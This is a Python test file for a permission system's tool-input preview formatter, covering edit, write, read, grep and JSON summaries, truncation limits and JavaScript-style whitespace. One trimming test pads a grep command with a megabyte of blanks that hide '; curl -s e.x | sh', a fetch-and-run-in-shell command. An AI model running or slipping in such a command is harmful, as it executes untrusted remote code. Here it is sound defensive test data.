"""ToolPreviewFormatter: the fragment after ``requested tool 'X'``.

Parity: ``PROMPT_CASES``, ``SANITIZE_CASES`` and ``LOG_CASES`` were produced by
running the upstream TypeScript package (@gotgenes/pi-permission-system 20.7.3,
``ToolPreviewFormatter`` from ``src/tool-preview-formatter.ts``) under Node on
exactly these inputs, given as JSON text; the expected strings are the
upstream's output, copied verbatim, not written by hand. The Node script is a
throwaway outside the repository; Node is never a dependency of these tests.

Deliberate differences from the upstream each have their own test below,
named for the reason: character counts are code points (the upstream counts
UTF-16 units), truncation never splits a grapheme, and integers print exactly.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from askbench.impl import (
    PreviewLimits,
    ToolInputFormatterRegistry,
    ToolPreviewFormatter,
    normalize_config,
    register_builtin_tool_input_formatters,
    resolve_tool_preview_limits,
)
from askbench.impl.config import PermissionConfig
from askbench.impl.preview import (
    JS_WHITESPACE,
    TOOL_INPUT_LOG_PREVIEW_MAX_LENGTH,
    TOOL_INPUT_PREVIEW_MAX_LENGTH,
    TOOL_TEXT_SUMMARY_MAX_LENGTH,
    js_trim,
    non_empty_string,
    prompt_path,
)


def commands_counter(tool_input):
    """The seed's example of a third-party formatter."""
    commands = tool_input.get("commands")
    return f"runs {len(commands)} commands" if isinstance(commands, list) else None


def lookup(kind: str) -> ToolInputFormatterRegistry | None:
    """``none``: no lookup at all; ``builtins``: the start-up registry; ``custom``: plus a third party."""
    if kind == "none":
        return None
    registry = ToolInputFormatterRegistry()
    register_builtin_tool_input_formatters(registry)
    if kind == "custom":
        registry.register("my-server:run", commands_counter)
    return registry


PROMPT_CASES = [
    pytest.param(
        "edit",
        {"path": "src/a.py", "edits": [{"oldText": "a\nb", "newText": "c"}]},
        {},
        "none",
        "for 'src/a.py' (1 replacement: edit #1 replaces 2 lines with 1 line)",
        id="edit_single",
    ),
    pytest.param(
        "edit",
        {
            "path": "x.ts",
            "edits": [
                {"oldText": "a", "newText": "b\nc"},
                {"oldText": "d", "newText": "e"},
                {"oldText": "f", "newText": "g"},
            ],
        },
        {},
        "none",
        "for 'x.ts' (3 replacements: edit #1 replaces 1 line with 2 lines, plus 2 additional edits)",
        id="edit_multi",
    ),
    pytest.param(
        "edit",
        {
            "path": "y.ts",
            "edits": [{"oldText": "a\nb\nc", "newText": ""}, {"oldText": "d", "newText": "e"}],
        },
        {},
        "none",
        "for 'y.ts' (2 replacements: edit #1 replaces 3 lines with 0 lines, plus 1 additional edit)",
        id="edit_two_edits_singular_additional",
    ),
    pytest.param(
        "edit",
        {"file_path": "  lib/m.rs  ", "oldText": "x", "newText": "y\r\nz\rw"},
        {},
        "none",
        "for 'lib/m.rs' (1 replacement: edit #1 replaces 1 line with 3 lines)",
        id="edit_old_new_top_level_file_path_trimmed",
    ),
    pytest.param(
        "edit",
        {"path": "a.txt"},
        {},
        "none",
        "for 'a.txt' with edit input",
        id="edit_no_edits_with_path",
    ),
    pytest.param(
        "edit",
        {},
        {},
        "none",
        "with edit input",
        id="edit_no_edits_no_path",
    ),
    pytest.param(
        "edit",
        {"edits": [{"oldText": "", "newText": "x"}]},
        {},
        "none",
        "(1 replacement: edit #1 replaces 0 lines with 1 line)",
        id="edit_no_path_with_edits",
    ),
    pytest.param(
        "edit",
        {
            "path": "p",
            "edits": [
                {"oldText": 1, "newText": "x"},
                "str",
                None,
                {"oldText": "a", "newText": "b"},
                {"oldText": "c\n", "newText": "d"},
            ],
        },
        {},
        "none",
        "for 'p' (2 replacements: edit #1 replaces 1 line with 1 line, plus 1 additional edit)",
        id="edit_invalid_entries_filtered",
    ),
    pytest.param(
        "edit",
        {"path": "q", "edits": {"oldText": "z", "newText": "z"}, "oldText": "1\n2", "newText": "3"},
        {},
        "none",
        "for 'q' (1 replacement: edit #1 replaces 2 lines with 1 line)",
        id="edit_edits_not_array_falls_back_to_old_new",
    ),
    pytest.param(
        "edit",
        {"path": "q", "edits": [], "oldText": "1", "newText": "2"},
        {},
        "none",
        "for 'q' with edit input",
        id="edit_empty_edits_array_wins_over_old_new",
    ),
    pytest.param(
        "edit",
        {"path": "   ", "file_path": "b.md", "oldText": "o", "newText": "n"},
        {},
        "none",
        "for 'b.md' (1 replacement: edit #1 replaces 1 line with 1 line)",
        id="edit_blank_path_falls_back_to_file_path",
    ),
    pytest.param(
        "edit",
        {"path": "first.md", "file_path": "second.md", "oldText": "o", "newText": "n"},
        {},
        "none",
        "for 'first.md' (1 replacement: edit #1 replaces 1 line with 1 line)",
        id="edit_path_wins_over_file_path",
    ),
    pytest.param(
        "edit",
        {"path": 5, "file_path": "c.txt", "edits": [{"oldText": "a", "newText": "b"}]},
        {},
        "none",
        "for 'c.txt' (1 replacement: edit #1 replaces 1 line with 1 line)",
        id="edit_non_string_path",
    ),
    pytest.param(
        "write",
        {"path": "notes.md", "content": "one\ntwo\nsix"},
        {},
        "none",
        "for 'notes.md' (3 lines, 11 characters)",
        id="write_with_content",
    ),
    pytest.param(
        "write",
        {"path": "x"},
        {},
        "none",
        "for 'x' (0 lines, 0 characters)",
        id="write_without_content",
    ),
    pytest.param(
        "write",
        {"content": "hi"},
        {},
        "none",
        "(1 line, 2 characters)",
        id="write_no_path",
    ),
    pytest.param(
        "write",
        {"file_path": "w.txt", "content": "a\r\nb\n"},
        {},
        "none",
        "for 'w.txt' (3 lines, 5 characters)",
        id="write_trailing_newline_crlf",
    ),
    pytest.param(
        "write",
        {"path": "n.json", "content": {"a": 1}},
        {},
        "none",
        "for 'n.json' (0 lines, 0 characters)",
        id="write_non_string_content",
    ),
    pytest.param(
        "write",
        {"path": "u.txt", "content": "héllo 世界"},
        {},
        "none",
        "for 'u.txt' (1 line, 8 characters)",
        id="write_bmp_unicode_content",
    ),
    pytest.param(
        "read",
        {"path": "README.md", "offset": 10, "limit": 50},
        {},
        "none",
        "for path 'README.md', offset 10, limit 50",
        id="read_offset_limit",
    ),
    pytest.param(
        "read",
        {"path": "r.py", "offset": 10.5, "limit": 2.0},
        {},
        "none",
        "for path 'r.py', offset 10.5, limit 2",
        id="read_float_offset_integral_float_limit",
    ),
    pytest.param(
        "read",
        {"path": "r.py", "offset": 0, "limit": -3},
        {},
        "none",
        "for path 'r.py', offset 0, limit -3",
        id="read_zero_and_negative",
    ),
    pytest.param(
        "read",
        {"path": "r.py", "offset": "10", "limit": True},
        {},
        "none",
        "for path 'r.py'",
        id="read_non_numbers_ignored",
    ),
    pytest.param(
        "read",
        {"offset": 5},
        {},
        "none",
        "for offset 5",
        id="read_offset_only_no_path",
    ),
    pytest.param(
        "read",
        {},
        {},
        "none",
        "",
        id="read_empty",
    ),
    pytest.param(
        "read",
        {"path": "f", "offset": 1e-05, "limit": 1e-07},
        {},
        "none",
        "for path 'f', offset 0.00001, limit 1e-7",
        id="read_small_floats",
    ),
    pytest.param(
        "read",
        {"path": "f", "offset": 1e21, "limit": 1.5e300},
        {},
        "none",
        "for path 'f', offset 1e+21, limit 1.5e+300",
        id="read_large_floats",
    ),
    pytest.param(
        "read",
        {"path": "f", "offset": 0.1, "limit": 123456.789},
        {},
        "none",
        "for path 'f', offset 0.1, limit 123456.789",
        id="read_mid_floats",
    ),
    pytest.param(
        "read",
        {"path": "f", "offset": -0.0, "limit": 1.23e-18},
        {},
        "none",
        "for path 'f', offset 0, limit 1.23e-18",
        id="read_negative_zero_and_tiny",
    ),
    pytest.param(
        "grep",
        {"pattern": "foo\\s+bar   baz", "glob": "*.py"},
        {},
        "none",
        "for pattern 'foo\\s+bar baz', glob '*.py', current working directory",
        id="grep_pattern_glob_cwd",
    ),
    pytest.param(
        "grep",
        {
            "pattern": "abcdefghij0123456789abcdefghij0123456789abcdefghij0123456789abcdefghij0123456789XYZ",
            "path": "src",
        },
        {},
        "none",
        "for pattern 'abcdefghij0123456789abcdefghij0123456789abcdefghij0123456789abcdefghij0123456789…', path 'src'",
        id="grep_long_pattern_cut_at_80",
    ),
    pytest.param(
        "find",
        {
            "glob": "**/{a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t,u,v,w,x,y,z}/*.{ts,tsx,js,jsx,mjs,cjs,json}",
            "path": " ./web ",
        },
        {},
        "none",
        "for glob '**/{a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t,u,v,w,x,y,z}/*.{ts,tsx,js,jsx,mjs,cj…', path './web'",
        id="find_long_glob_with_path",
    ),
    pytest.param(
        "ls",
        {"path": "docs"},
        {},
        "none",
        "for path 'docs'",
        id="ls_path_only",
    ),
    pytest.param(
        "ls",
        {},
        {},
        "none",
        "for current working directory",
        id="ls_no_input",
    ),
    pytest.param(
        "ls",
        ["docs"],
        {},
        "none",
        "for current working directory",
        id="ls_input_not_object",
    ),
    pytest.param(
        "grep",
        {"pattern": "   ", "glob": "\t"},
        {},
        "none",
        "for current working directory",
        id="grep_blank_pattern_ignored",
    ),
    pytest.param(
        "grep",
        {"pattern": "  a\t\tb\n\nc  ", "file_path": "lib"},
        {},
        "none",
        "for pattern 'a b c', path 'lib'",
        id="grep_whitespace_runs_tabs_newlines",
    ),
    pytest.param(
        "grep",
        {"pattern": "0123456789ABC", "glob": "0123456789"},
        {"tool_text_summary_max_length": 10},
        "none",
        "for pattern '0123456789…', glob '0123456789', current working directory",
        id="grep_summary_limit_10",
    ),
    pytest.param(
        "grep",
        {"pattern": "a\xa0\xa0b\u3000\u3000c\u2028d"},
        {},
        "none",
        "for pattern 'a b c d', current working directory",
        id="grep_unicode_space_runs",
    ),
    pytest.param(
        "grep",
        {"pattern": "a\x1cb\x1f", "path": "\x1dp"},
        {},
        "none",
        "for pattern 'a\x1cb\x1f', path '\x1dp'",
        id="grep_ascii_separator_not_whitespace",
    ),
    pytest.param(
        "grep",
        {"pattern": "\ufeffx\ufeff\ufeffy", "path": "\ufeffsrc"},
        {},
        "none",
        "for pattern 'x y', path 'src'",
        id="grep_bom_is_whitespace",
    ),
    pytest.param(
        "grep",
        {"pattern": "a\x85b"},
        {},
        "none",
        "for pattern 'a\x85b', current working directory",
        id="grep_nel_not_whitespace",
    ),
    pytest.param(
        "deploy",
        {"env": "prod", "replicas": 3},
        {},
        "none",
        'with input {"env":"prod","replicas":3}',
        id="json_simple",
    ),
    pytest.param(
        "t",
        {"b": 1, "10": 2, "2": 3, "a": 4, "01": 5, "-1": 6, "4294967295": 7, "4294967294": 8},
        {},
        "none",
        'with input {"2":3,"10":2,"4294967294":8,"b":1,"a":4,"01":5,"-1":6,"4294967295":7}',
        id="json_integer_like_keys_first",
    ),
    pytest.param(
        "t",
        {"a": {"z": [1, {"c": None, "1": False}], "0": []}, "d": True},
        {},
        "none",
        'with input {"a":{"0":[],"z":[1,{"1":false,"c":null}]},"d":true}',
        id="json_nested",
    ),
    pytest.param(
        "t",
        {"cmd": "a    b\n\nc\t d"},
        {},
        "none",
        'with input {"cmd":"a b\\n\\nc\\t d"}',
        id="json_whitespace_runs_collapsed",
    ),
    pytest.param(
        "t",
        {"msg": "héllo 世界", "kéy": "☃"},
        {},
        "none",
        'with input {"msg":"héllo 世界","kéy":"☃"}',
        id="json_unicode",
    ),
    pytest.param(
        "t",
        {
            "body": "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789"
        },
        {},
        "none",
        'with input {"body":"01234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890…',
        id="json_long_cut_at_200",
    ),
    pytest.param(
        "t",
        {
            "a": 1.0,
            "b": 0.5,
            "c": 1e-05,
            "d": 1e21,
            "e": -0.0,
            "f": 2.5e-07,
            "g": 100.0,
            "h": 1e300,
            "i": 0.000123,
        },
        {},
        "none",
        'with input {"a":1,"b":0.5,"c":0.00001,"d":1e+21,"e":0,"f":2.5e-7,"g":100,"h":1e+300,"i":0.000123}',
        id="json_floats",
    ),
    pytest.param(
        "t",
        {},
        {},
        "none",
        "",
        id="json_empty_object",
    ),
    pytest.param(
        "t",
        None,
        {},
        "none",
        "",
        id="json_null",
    ),
    pytest.param(
        "t",
        [1, "two", {"3": 3}],
        {},
        "none",
        'with input [1,"two",{"3":3}]',
        id="json_array",
    ),
    pytest.param(
        "t",
        "hello   world",
        {},
        "none",
        'with input "hello world"',
        id="json_string",
    ),
    pytest.param(
        "t",
        42,
        {},
        "none",
        "with input 42",
        id="json_number",
    ),
    pytest.param(
        "t",
        {"s": "a\x01b\x1b[31m\x7f\x08\x0c"},
        {},
        "none",
        'with input {"s":"a\\u0001b\\u001b[31m\x7f\\b\\f"}',
        id="json_control_chars_escaped",
    ),
    pytest.param(
        "t",
        {'q"k': "v\\w/"},
        {},
        "none",
        'with input {"q\\"k":"v\\\\w/"}',
        id="json_quotes_backslashes",
    ),
    pytest.param(
        "t",
        {"s": "a\u2028\u2029b"},
        {},
        "none",
        'with input {"s":"a b"}',
        id="json_line_separator_collapsed",
    ),
    pytest.param(
        "t",
        {"alpha": "beta", "gamma": "delta"},
        {"tool_input_preview_max_length": 20},
        "none",
        'with input {"alpha":"beta","gam…',
        id="json_limit_20",
    ),
    pytest.param(
        "mcp",
        {"tool": "s:t", "arguments": {"a": 1}},
        {},
        "none",
        "",
        id="mcp_without_builtins_is_empty",
    ),
    pytest.param(
        "mcp",
        {"tool": "s:t", "arguments": {"a": 1}},
        {},
        "builtins",
        "with a: 1",
        id="mcp_with_builtins_via_prompt",
    ),
    pytest.param(
        "mcp",
        {"tool": "s:t", "arguments": {}},
        {},
        "builtins",
        "",
        id="mcp_builtins_declines_empty",
    ),
]

SANITIZE_CASES = [
    pytest.param(
        "  a  \t b \n c  ",
        None,
        {},
        "a b c",
        id="sanitize_collapse",
    ),
    pytest.param(
        "",
        None,
        {},
        "empty text",
        id="sanitize_empty",
    ),
    pytest.param(
        "  \n\t\r ",
        None,
        {},
        "empty text",
        id="sanitize_blank",
    ),
    pytest.param(
        "abc",
        0,
        {},
        "…",
        id="sanitize_max_zero",
    ),
    pytest.param(
        "abcdef",
        5,
        {},
        "abcde…",
        id="sanitize_max_five",
    ),
    pytest.param(
        "0123456789012345678901234567890123456789012345678901234567890123456789012345678 9",
        None,
        {},
        "0123456789012345678901234567890123456789012345678901234567890123456789012345678 …",
        id="sanitize_exactly_default",
    ),
    pytest.param(
        "01234567890123456789012345678901234567890123456789012345678901234567890123456789X",
        None,
        {},
        "01234567890123456789012345678901234567890123456789012345678901234567890123456789…",
        id="sanitize_one_over_default",
    ),
    pytest.param(
        "a          b          c",
        4,
        {},
        "a b …",
        id="sanitize_collapse_before_cut",
    ),
    pytest.param(
        "abcdefghijkl",
        None,
        {"tool_text_summary_max_length": 3},
        "abc…",
        id="sanitize_constructor_limit",
    ),
    pytest.param(
        "abcdefghijkl",
        6,
        {"tool_text_summary_max_length": 3},
        "abcdef…",
        id="sanitize_explicit_overrides_constructor",
    ),
    pytest.param(
        "\x1ca\x1d\x1e\x1fb\x1c",
        None,
        {},
        "\x1ca\x1d\x1e\x1fb\x1c",
        id="sanitize_ascii_separators_kept",
    ),
    pytest.param(
        "\xa0x\xa0\xa0y\xa0",
        None,
        {},
        "x y",
        id="sanitize_nbsp_trimmed",
    ),
    pytest.param(
        "\ufeffx\ufeff",
        None,
        {},
        "x",
        id="sanitize_bom_trimmed",
    ),
    pytest.param(
        "a\x0b\x0cb",
        None,
        {},
        "a b",
        id="sanitize_vertical_tab_formfeed",
    ),
]

LOG_CASES = [
    pytest.param(
        "edit",
        None,
        {"path": "a", "oldText": "x", "newText": "y"},
        {},
        "for 'a' (1 replacement: edit #1 replaces 1 line with 1 line)",
        id="log_edit_path_bearing",
    ),
    pytest.param(
        "bash",
        None,
        {"command": "ls"},
        {},
        None,
        id="log_bash_none",
    ),
    pytest.param(
        "mcp",
        None,
        {"arguments": {"a": 1}},
        {},
        None,
        id="log_mcp_none",
    ),
    pytest.param(
        "github_x",
        "mcp",
        {"a": 1},
        {},
        None,
        id="log_source_mcp_none",
    ),
    pytest.param(
        "deploy",
        None,
        {"env": "prod"},
        {},
        'input {"env":"prod"}',
        id="log_generic_json",
    ),
    pytest.param(
        "deploy",
        None,
        {},
        {},
        None,
        id="log_generic_empty",
    ),
    pytest.param(
        "read",
        None,
        {},
        {},
        None,
        id="log_read_empty_is_none",
    ),
    pytest.param(
        "grep",
        None,
        {"pattern": "abcdef"},
        {"tool_input_log_preview_max_length": 12},
        "for pattern …",
        id="log_limit_cut",
    ),
    pytest.param(
        " edit ",
        None,
        {"path": "a", "oldText": "x", "newText": "y"},
        {},
        'input {"path":"a","oldText":"x","newText":"y"}',
        id="log_padded_path_tool_is_generic",
    ),
]


@pytest.mark.parametrize(("tool", "tool_input", "limits", "formatters", "expected"), PROMPT_CASES)
def test_prompt_fragment_matches_upstream(tool, tool_input, limits, formatters, expected):
    formatter = ToolPreviewFormatter(PreviewLimits(**limits), lookup(formatters))
    assert formatter.format_tool_input_for_prompt(tool, tool_input) == expected


@pytest.mark.parametrize(("text", "max_length", "limits", "expected"), SANITIZE_CASES)
def test_sanitize_inline_text_matches_upstream(text, max_length, limits, expected):
    assert (
        ToolPreviewFormatter(PreviewLimits(**limits)).sanitize_inline_text(text, max_length)
        == expected
    )


@pytest.mark.parametrize(("tool", "source", "tool_input", "limits", "expected"), LOG_CASES)
def test_log_preview_matches_upstream(tool, source, tool_input, limits, expected):
    formatter = ToolPreviewFormatter(PreviewLimits(**limits))
    assert formatter.format_tool_input_for_log(tool, tool_input, source=source) == expected


# ── Deliberate differences from the upstream (its output quoted in each docstring) ──


def test_write_counts_characters_as_code_points_not_utf16_units():
    """Upstream: ``for 'e.txt' (1 line, 4 characters)`` for two emoji; two characters were written."""
    formatter = ToolPreviewFormatter()
    fragment = formatter.format_tool_input_for_prompt(
        "write", {"path": "e.txt", "content": "\U0001f600\U0001f600"}
    )
    assert fragment == "for 'e.txt' (1 line, 2 characters)"


def test_json_preview_cut_counts_code_points_and_leaves_no_lone_surrogate():
    """Upstream at limit 9: ``with input {"e":"😀\\ud83d…`` (a lone high surrogate); here 9 code points, whole emoji."""
    formatter = ToolPreviewFormatter(PreviewLimits(tool_input_preview_max_length=9))
    fragment = formatter.format_tool_input_for_prompt("t", {"e": "\U0001f600" * 5})
    assert fragment == 'with input {"e":"\U0001f600\U0001f600\U0001f600…'
    fragment.encode("utf-8")


def test_json_preview_prints_big_integers_exactly_and_what_javascript_reads():
    """Upstream: ``{"n":12345678901234567000}`` (rounded to a double); the agent sent ...890: both are shown."""
    fragment = ToolPreviewFormatter().format_tool_input_for_prompt("t", {"n": 12345678901234567890})
    assert (
        fragment
        == 'with input {"n":12345678901234567890 (a JavaScript host reads 12345678901234567000)}'
    )


def test_sanitize_never_separates_a_combining_mark_from_its_base():
    """Upstream at 5: ``abcde…`` (the acute accent cut off its e); here the whole grapheme goes."""
    assert ToolPreviewFormatter().sanitize_inline_text("abcde\u0301fgh", 5) == "abcd…"


def test_sanitize_never_splits_a_zwj_sequence():
    """Upstream at 4: ``ab👨…`` (a third of the family); here the family is dropped whole."""
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert ToolPreviewFormatter().sanitize_inline_text(f"ab{family}cd", 4) == "ab…"


# ── Seam-first dispatch ──


class DictLookup:
    """A minimal ToolInputFormatterLookup: the formatter needs only ``get``."""

    def __init__(self, formatters):
        self.formatters = formatters
        self.calls: list[str] = []

    def get(self, tool_name):
        self.calls.append(tool_name)
        return self.formatters.get(tool_name)


def test_custom_string_is_used_verbatim_even_for_a_built_in_tool():
    long_text = "  custom   " + "x" * 500
    formatter = ToolPreviewFormatter(
        custom_formatters=DictLookup({"edit": lambda tool_input: long_text})
    )
    assert (
        formatter.format_tool_input_for_prompt(
            "edit", {"path": "a", "oldText": "o", "newText": "n"}
        )
        == long_text
    )


def test_custom_empty_string_is_used_and_does_not_fall_through():
    formatter = ToolPreviewFormatter(
        custom_formatters=DictLookup({"deploy": lambda tool_input: ""})
    )
    assert formatter.format_tool_input_for_prompt("deploy", {"env": "prod"}) == ""


def test_custom_none_falls_through_to_the_built_in():
    formatter = ToolPreviewFormatter(
        custom_formatters=DictLookup({"read": lambda tool_input: None})
    )
    assert (
        formatter.format_tool_input_for_prompt("read", {"path": "a.py", "offset": 3})
        == "for path 'a.py', offset 3"
    )


def test_custom_none_falls_through_to_the_json_default():
    formatter = ToolPreviewFormatter(
        custom_formatters=DictLookup({"deploy": lambda tool_input: None})
    )
    assert (
        formatter.format_tool_input_for_prompt("deploy", {"env": "prod"})
        == 'with input {"env":"prod"}'
    )


def test_custom_formatter_may_decide_per_input():
    formatter = ToolPreviewFormatter(
        custom_formatters=DictLookup({"my-server:run": commands_counter})
    )
    assert (
        formatter.format_tool_input_for_prompt("my-server:run", {"commands": ["a", "b"]})
        == "runs 2 commands"
    )
    assert (
        formatter.format_tool_input_for_prompt("my-server:run", {"script": "x"})
        == 'with input {"script":"x"}'
    )


def test_absent_lookup_gives_the_built_ins():
    tool_input = {"path": "src/a.py", "edits": [{"oldText": "a\nb", "newText": "c"}]}
    expected = "for 'src/a.py' (1 replacement: edit #1 replaces 2 lines with 1 line)"
    assert ToolPreviewFormatter().format_tool_input_for_prompt("edit", tool_input) == expected
    empty_lookup = ToolPreviewFormatter(custom_formatters=DictLookup({}))
    assert empty_lookup.format_tool_input_for_prompt("edit", tool_input) == expected


def test_lookup_is_asked_for_the_tool_name_as_given():
    recording = DictLookup({})
    ToolPreviewFormatter(custom_formatters=recording).format_tool_input_for_prompt("Edit ", {})
    assert recording.calls == ["Edit "]


def test_custom_formatter_receives_the_input_mapping():
    seen = []
    formatter = ToolPreviewFormatter(
        custom_formatters=DictLookup({"t": lambda tool_input: seen.append(tool_input)})
    )
    formatter.format_tool_input_for_prompt("t", {"a": 1})
    assert seen == [{"a": 1}]


def test_custom_formatter_receives_an_empty_mapping_for_a_non_object_input():
    seen = []
    formatter = ToolPreviewFormatter(
        custom_formatters=DictLookup({"t": lambda tool_input: seen.append(tool_input)})
    )
    assert (
        formatter.format_tool_input_for_prompt("t", ["not", "an", "object"])
        == 'with input ["not","an","object"]'
    )
    assert seen == [{}]


def test_mcp_without_a_custom_formatter_adds_nothing():
    assert (
        ToolPreviewFormatter().format_tool_input_for_prompt(
            "mcp", {"tool": "s:t", "arguments": {"a": 1}}
        )
        == ""
    )


def test_registry_change_is_seen_by_an_existing_formatter():
    registry = ToolInputFormatterRegistry()
    formatter = ToolPreviewFormatter(custom_formatters=registry)
    dispose = registry.register("deploy", lambda tool_input: "to prod")
    assert formatter.format_tool_input_for_prompt("deploy", {"env": "prod"}) == "to prod"
    dispose()
    assert (
        formatter.format_tool_input_for_prompt("deploy", {"env": "prod"})
        == 'with input {"env":"prod"}'
    )


# ── The issue's wording, spelled out ──


@pytest.mark.parametrize(
    ("tool", "tool_input", "expected"),
    [
        (
            "edit",
            {"path": "src/a.py", "edits": [{"oldText": "a\nb", "newText": "c"}]},
            "for 'src/a.py' (1 replacement: edit #1 replaces 2 lines with 1 line)",
        ),
        (
            "edit",
            {
                "path": "x.ts",
                "edits": [
                    {"oldText": "a", "newText": "b\nc"},
                    {"oldText": "d", "newText": "e"},
                    {"oldText": "f", "newText": "g"},
                ],
            },
            "for 'x.ts' (3 replacements: edit #1 replaces 1 line with 2 lines, plus 2 additional edits)",
        ),
        (
            "write",
            {"path": "notes.md", "content": "one\ntwo\nsix!"},
            "for 'notes.md' (3 lines, 12 characters)",
        ),
        (
            "read",
            {"path": "README.md", "offset": 10, "limit": 50},
            "for path 'README.md', offset 10, limit 50",
        ),
        (
            "grep",
            {"pattern": "foo\\s+bar   baz", "glob": "*.py"},
            "for pattern 'foo\\s+bar baz', glob '*.py', current working directory",
        ),
        ("deploy", {"env": "prod", "replicas": 3}, 'with input {"env":"prod","replicas":3}'),
        (
            "edit",
            {"path": "  padded.txt\t", "file_path": "other"},
            "for 'padded.txt' with edit input",
        ),
    ],
    ids=["edit-one", "edit-three", "write", "read", "grep", "json", "trimmed-path-wins"],
)
def test_issue_wording(tool, tool_input, expected):
    assert ToolPreviewFormatter().format_tool_input_for_prompt(tool, tool_input) == expected


def test_blank_summary_reads_empty_text():
    assert ToolPreviewFormatter().sanitize_inline_text(" \t\n ") == "empty text"


# ── Limits ──


def test_preview_limits_defaults():
    limits = PreviewLimits()
    assert (
        limits.tool_input_preview_max_length,
        limits.tool_text_summary_max_length,
        limits.tool_input_log_preview_max_length,
    ) == (200, 80, 1000)
    assert (
        TOOL_INPUT_PREVIEW_MAX_LENGTH,
        TOOL_TEXT_SUMMARY_MAX_LENGTH,
        TOOL_INPUT_LOG_PREVIEW_MAX_LENGTH,
    ) == (
        200,
        80,
        1000,
    )


def test_formatter_without_limits_uses_the_defaults():
    assert ToolPreviewFormatter().limits == PreviewLimits()


def test_resolve_limits_takes_the_configured_values():
    config = normalize_config({"toolInputPreviewMaxLength": 400, "toolTextSummaryMaxLength": 120})
    assert resolve_tool_preview_limits(config) == PreviewLimits(400, 120, 1000)


def test_resolve_limits_falls_back_to_defaults_for_absent_and_invalid_fields():
    config = normalize_config({"toolInputPreviewMaxLength": 0})
    assert resolve_tool_preview_limits(config) == PreviewLimits(200, 80, 1000)
    assert resolve_tool_preview_limits(PermissionConfig()) == PreviewLimits()


def test_the_log_limit_is_never_configurable():
    config = normalize_config(
        {"toolInputPreviewMaxLength": 5, "toolTextSummaryMaxLength": 5, "promptMaxRows": 5}
    )
    assert resolve_tool_preview_limits(config).tool_input_log_preview_max_length == 1000


def test_configured_limits_change_the_prompt():
    config = normalize_config({"toolInputPreviewMaxLength": 12, "toolTextSummaryMaxLength": 4})
    formatter = ToolPreviewFormatter(resolve_tool_preview_limits(config))
    assert (
        formatter.format_tool_input_for_prompt("deploy", {"env": "production"})
        == 'with input {"env":"prod…'
    )
    assert formatter.format_tool_input_for_prompt("grep", {"pattern": "abcdef"}) == (
        "for pattern 'abcd…', current working directory"
    )


def test_explicit_max_length_zero_is_honoured_not_replaced_by_the_default():
    assert ToolPreviewFormatter().sanitize_inline_text("abc", 0) == "…"


def test_log_preview_of_a_path_bearing_tool_is_cut_at_the_log_limit():
    formatter = ToolPreviewFormatter(PreviewLimits(tool_input_log_preview_max_length=10))
    assert formatter.format_tool_input_for_log("read", {"path": "a" * 40}) == "for path '…"


def test_log_preview_ignores_the_prompt_limit():
    formatter = ToolPreviewFormatter(PreviewLimits(tool_input_preview_max_length=5))
    assert formatter.format_tool_input_for_log("deploy", {"env": "prod"}) == 'input {"env":"prod"}'


# ── JavaScript whitespace ──

JS_SPACE = re.compile(f"[{JS_WHITESPACE}]")


@pytest.mark.parametrize("char", ["\x1c", "\x1d", "\x1e", "\x1f", "\x85"])
def test_python_only_whitespace_is_kept_like_javascript(char):
    """Python's str.isspace counts these; JavaScript's \\s and trim() do not, so neither may the prompt."""
    assert char.isspace()
    text = f"{char}a{char}{char}b{char}"
    assert ToolPreviewFormatter().sanitize_inline_text(text) == text
    assert non_empty_string(char) == char


def test_bom_is_whitespace_like_javascript():
    assert not "\ufeff".isspace()
    assert ToolPreviewFormatter().sanitize_inline_text("\ufeffa\ufeff\ufeffb\ufeff") == "a b"
    assert non_empty_string("\ufeff") is None
    assert prompt_path({"path": "\ufeff", "file_path": "\ufeffb.md"}) == "b.md"


def test_js_whitespace_set_is_python_isspace_minus_separators_and_nel_plus_bom():
    differs = [c for c in map(chr, range(0x10000)) if bool(JS_SPACE.match(c)) != c.isspace()]
    assert differs == ["\x1c", "\x1d", "\x1e", "\x1f", "\x85", "\ufeff"]


def test_js_trim_is_linear_in_a_run_of_blanks_it_keeps():
    # a regex ending in [ws]+\Z retried at every blank of an inner run: hours for a padded megabyte
    padded = "grep x" + " \u00a0\u2005" * 1_000_000 + "; curl -s e.x | sh"
    assert js_trim(padded) == padded
    assert js_trim("\u2000\u200a x \u2009") == "x"


def test_js_trim_only_trims_the_ends():
    assert js_trim("\u3000 a \u00a0 b\t\n") == "a \u00a0 b"
    assert js_trim("a\n") == "a"
    assert js_trim("\n") == ""


# ── Properties ──

json_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text()),
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(st.text(max_size=8), children, max_size=5)
    ),
    max_leaves=25,
)
tool_names = st.one_of(
    st.sampled_from(
        ["edit", "write", "read", "find", "grep", "ls", "mcp", "bash", "deploy", " edit"]
    ),
    st.text(max_size=8),
)
tool_shaped_inputs = st.fixed_dictionaries(
    {},
    optional={
        "path": json_values,
        "file_path": json_values,
        "pattern": json_values,
        "glob": json_values,
        "content": json_values,
        "edits": st.lists(
            st.fixed_dictionaries({}, optional={"oldText": json_values, "newText": json_values})
        )
        | json_values,
        "oldText": json_values,
        "newText": json_values,
        "offset": json_values,
        "limit": json_values,
        "arguments": json_values,
    },
)
BUILT_IN = {"edit", "write", "read", "find", "grep", "ls", "mcp"}


@given(
    tool_names, st.one_of(tool_shaped_inputs, json_values), st.integers(1, 300), st.integers(1, 120)
)
def test_prompt_fragment_is_total_and_the_json_default_is_bounded(
    tool, tool_input, preview_limit, summary_limit
):
    formatter = ToolPreviewFormatter(
        PreviewLimits(preview_limit, summary_limit), lookup("builtins")
    )
    fragment = formatter.format_tool_input_for_prompt(tool, tool_input)
    assert isinstance(fragment, str)
    if tool not in BUILT_IN and fragment:
        assert fragment.startswith("with input ")
        assert len(fragment) <= len("with input ") + preview_limit + 1
        assert "\n" not in fragment


@given(st.text(), st.integers(0, 100))
def test_sanitized_text_is_collapsed_trimmed_and_bounded(text, limit):
    result = ToolPreviewFormatter().sanitize_inline_text(text, limit)
    if js_trim(text) == "":
        assert result == "empty text"
